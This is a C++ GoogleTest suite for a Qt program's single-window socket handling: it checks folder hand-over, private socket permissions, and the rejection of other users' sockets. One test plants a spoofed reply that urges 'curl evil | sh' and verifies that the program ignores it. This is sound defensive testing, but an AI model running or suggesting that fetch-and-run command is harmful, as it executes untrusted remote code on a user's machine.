// A second start of the window program, as the running window sees it.
#include <QCoreApplication>
#include <QLocalServer>
#include <csignal>
#include <future>
#include <gtest/gtest.h>
#include <cstring>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

#include "qt/qt_fixture.h"
#include "qt/qt_single.h"

namespace {

using zud::qt::ZudWindow;
using zud_test::QtWindow;

// The second start, on a thread of its own, as another process would be:
// "" when the window came forward (its word then names the folder), else
// the word it refused with.
std::string second_start(const QString& name, const std::string& folder)
{
    auto answer = std::async(std::launch::async, [&] {
        zud::qt::SecondStartAnswer got;
        if (!zud::qt::hand_to_running_window(name, folder, got))
            return std::string("(no window)");
        return got.taken && got.word.find("ZudSieve is already running") == 0 ? std::string() : got.word;
    });
    while (answer.wait_for(std::chrono::milliseconds(10)) != std::future_status::ready)
        QCoreApplication::processEvents(QEventLoop::AllEvents, 10);
    return answer.get();
}

TEST_F(QtWindow, a_second_start_brings_the_window_forward_and_hands_over_its_folder)
{
    ::mkdir("other", 0755);
    write_file("other/Zud.dat", test_data("small_Zud.dat"));
    ::mkdir("empty", 0755);
    const QString name = QString::fromStdString(dir_ + "/single");
    EXPECT_EQ(second_start(name, ""), "(no window)");

    range.lower = 3001;
    range.upper = 300000;
    ZudWindow window(parts(false));
    zud::qt::SingleWindowServer server(&window, [&](const std::string& f) { return window.second_start(f); });
    ASSERT_TRUE(server.listen(name));
    zud::qt::SingleWindowServer another(nullptr, {});
    EXPECT_FALSE(another.listen(name));   // one window per name
    window.logic().initialize();
    window.hide();
    EXPECT_EQ(second_start(name, ""), "");
    EXPECT_TRUE(window.isVisible());
    // During a run the folder stays, with a word.
    EXPECT_EQ(second_start(name, dir_ + "/other"),
              "ZudSieve is sieving in '" + dir_ + "': stop it there before changing to '" + dir_ + "/other'.");
    EXPECT_EQ(window.logic().folder().shown(), dir_);
    window.logic().stopped(5000);
    EXPECT_NE(second_start(name, dir_ + "/empty").find("holds neither 'Zud.dat' nor 'ZudStatus.dat'"),
              std::string::npos);
    EXPECT_EQ(second_start(name, dir_ + "/other"), "");
    EXPECT_EQ(window.logic().folder().shown(), dir_ + "/other");
    EXPECT_EQ(zud::current_folder(), dir_);   // the program never changes its folder
    EXPECT_EQ(profile.values["folder"], dir_ + "/other");
    spin_until([&] { return window.logic().running(); }, 2000);
    EXPECT_TRUE(window.logic().running());   // a Start there
}

// A child process of a throwaway user: it runs `body` and ends.
pid_t as_other_user(const std::function<int()>& body)
{
    const pid_t pid = fork();
    if (pid == 0) {
        if (setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0)
            _exit(3);
        _exit(body());
    }
    return pid;
}

int exit_code(pid_t pid)
{
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

TEST_F(QtWindow, the_socket_lives_in_a_private_folder_and_another_user_is_neither_heard_nor_answered)
{
    ::mkdir("tmp", 01777);
    ::chmod("tmp", 01777);
    ::mkdir("shared", 0755);
    const std::string tmp = dir_ + "/tmp";
    const std::string own = tmp + "/zudsieve-" + std::to_string(::getuid());
    setenv("TMPDIR", tmp.c_str(), 1);
    // A runtime folder others may enter is not taken: a private one in the
    // temporary folder instead, made with mode 0700.
    setenv("XDG_RUNTIME_DIR", (dir_ + "/shared").c_str(), 1);
    zud::qt::SingleWindowPlace place = zud::qt::single_window_place();
    EXPECT_EQ(place.refusal, "");
    EXPECT_EQ(place.socket.toStdString().rfind(own + "/zudsieve-", 0), 0u) << place.socket.toStdString();
    struct stat info {};
    ASSERT_EQ(::stat(own.c_str(), &info), 0);
    EXPECT_EQ(info.st_mode & 0777, 0700u);
    // One claim at a time, whoever asks.
    EXPECT_TRUE(zud::qt::claim_first_window(place.lock));
    EXPECT_FALSE(zud::qt::claim_first_window(place.lock));
    // A folder of ours that others may enter is refused, not used.
    ::chmod(own.c_str(), 0755);
    unsetenv("XDG_RUNTIME_DIR");
    EXPECT_NE(zud::qt::single_window_place().refusal.find("other users may enter"), std::string::npos);
    if (::getuid() != 0) {
        unsetenv("TMPDIR");
        GTEST_SKIP() << "the two-user part needs root (a throwaway user)";
    }
    // Another user who made the folder first.
    ::chmod(own.c_str(), 0700);
    ASSERT_EQ(::chown(own.c_str(), 65534, 65534), 0);
    place = zud::qt::single_window_place();
    unsetenv("TMPDIR");
    EXPECT_NE(place.refusal.find("belongs to another user"), std::string::npos) << place.refusal;
    EXPECT_TRUE(place.socket.isEmpty());

    // Another user's listener, in a folder all may enter: its reply is
    // never taken nor shown.
    ::mkdir("open", 0777);
    ::chmod("open", 0777);
    ::chmod(dir_.c_str(), 0755);
    const std::string evil = dir_ + "/open/evil";
    const pid_t listener = as_other_user([&] {
        const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        std::strncpy(address.sun_path, evil.c_str(), sizeof address.sun_path - 1);
        if (::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 || ::listen(fd, 1) != 0)
            return 4;
        ::chmod(evil.c_str(), 0777);
        const int peer = ::accept(fd, nullptr, nullptr);
        const char reply[] = "1 ZudSieve is already running - please run curl evil | sh to fix\n";
        return ::write(peer, reply, sizeof reply - 1) > 0 ? 0 : 5;
    });
    for (int i = 0; i < 200 && ::access(evil.c_str(), F_OK) != 0; ++i)
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
    zud::qt::SecondStartAnswer answer;
    EXPECT_FALSE(zud::qt::hand_to_running_window(QString::fromStdString(evil), dir_, answer));
    EXPECT_EQ(answer.word, "");
    ::kill(listener, SIGKILL);
    exit_code(listener);

    // Another user who reaches the window's socket is not answered, and
    // the window does not hear what it asks.
    ZudWindow window(parts(false));
    bool asked = false;
    zud::qt::SingleWindowServer server(&window, [&](const std::string&) {
        asked = true;
        return zud::qt::SecondStartAnswer{true, "heard"};
    });
    const std::string name = dir_ + "/open/window";
    ASSERT_TRUE(server.listen(QString::fromStdString(name)));
    ::chmod(name.c_str(), 0777);
    const pid_t asker = as_other_user([&] {
        const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        std::strncpy(address.sun_path, name.c_str(), sizeof address.sun_path - 1);
        if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0)
            return 4;
        const char request[] = "/tmp\n";
        if (::write(fd, request, sizeof request - 1) <= 0)
            return 0;   // cut off at once: not answered
        char reply[64];
        return ::read(fd, reply, sizeof reply) > 0 ? 6 : 0;
    });
    int code = -1;
    auto waited = std::async(std::launch::async, [&] { code = exit_code(asker); });
    while (waited.wait_for(std::chrono::milliseconds(10)) != std::future_status::ready)
        QCoreApplication::processEvents(QEventLoop::AllEvents, 10);
    EXPECT_EQ(code, 0);
    EXPECT_FALSE(asked);
}

}  // namespace
